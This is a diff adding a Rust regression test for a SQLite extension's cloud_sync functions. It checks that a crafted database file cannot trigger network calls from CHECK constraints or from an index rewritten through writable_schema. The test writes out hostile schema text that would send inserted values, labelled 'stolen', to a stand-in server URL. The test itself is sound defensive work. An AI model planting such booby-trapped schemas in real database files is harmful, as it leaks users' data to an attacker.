@@ -299,3 +299,62 @@ fn a_database_locked_by_another_connection_fails_the_load_and_the_shell_lives_on
     assert!(run.ok, "{}", run.stderr);
     assert_eq!(run.stdout, "1");
 }
+
+#[test]
+fn a_crafted_files_check_cannot_call_functions_with_effects_on_debians_sqlite() {
+    let (_dir, db) = temp_db("crafted");
+    // The crafted file's server: a listener that must never see a connection.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let url = format!(
+        "'postgresql://' || x || '@127.0.0.1:{}/d?connect_timeout=1'",
+        listener.local_addr().unwrap().port()
+    );
+    let crafted = shell(
+        &db,
+        &[],
+        &format!(
+            "CREATE TABLE notes(x TEXT CHECK (cloud_sync_test({url}) IS NOT NULL));
+             CREATE TABLE keys(x TEXT CHECK (cloud_sync_save('stolen', {url}) > 0));
+             CREATE TABLE indexed(x TEXT);
+             CREATE INDEX indexed_x ON indexed(abs(x));
+             PRAGMA writable_schema = ON;
+             UPDATE sqlite_schema SET sql = replace(sql, 'abs(', 'cloud_sync_test(')
+              WHERE name = 'indexed_x';"
+        ),
+    );
+    assert!(crafted.ok, "{}", crafted.stderr);
+    let refused = "can only be called directly in a statement, not from a CHECK constraint or \
+                   other schema expression of the database file";
+    for table in ["notes", "keys", "indexed"] {
+        let run = shell(
+            &db,
+            &[(KEY_VAR, KEY)],
+            &format!("INSERT INTO {table} VALUES ('secret');"),
+        );
+        run.assert_failed_with(table, refused);
+    }
+    shell(&db, &[(KEY_VAR, KEY)], &save_sql("prod"))
+        .assert_failed_with("a direct save", "table 'keys' of database 'main' calls it");
+    let left = shell(
+        &db,
+        &[],
+        "SELECT (SELECT count(*) FROM notes) + (SELECT count(*) FROM keys)
+              + (SELECT count(*) FROM indexed) + (SELECT count(*) FROM cloud_sync_connections);",
+    );
+    assert_eq!(left.stdout, "0", "{}", left.stderr);
+    assert!(
+        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "the crafted file's server was contacted"
+    );
+    // Without the crafted tables, the direct calls work.
+    let run = shell(
+        &db,
+        &[(KEY_VAR, KEY)],
+        &format!(
+            "DROP TABLE notes; DROP TABLE keys; DROP TABLE indexed;\n{}",
+            save_sql("prod")
+        ),
+    );
+    assert_eq!(run.stdout, "1", "{}", run.stderr);
+}
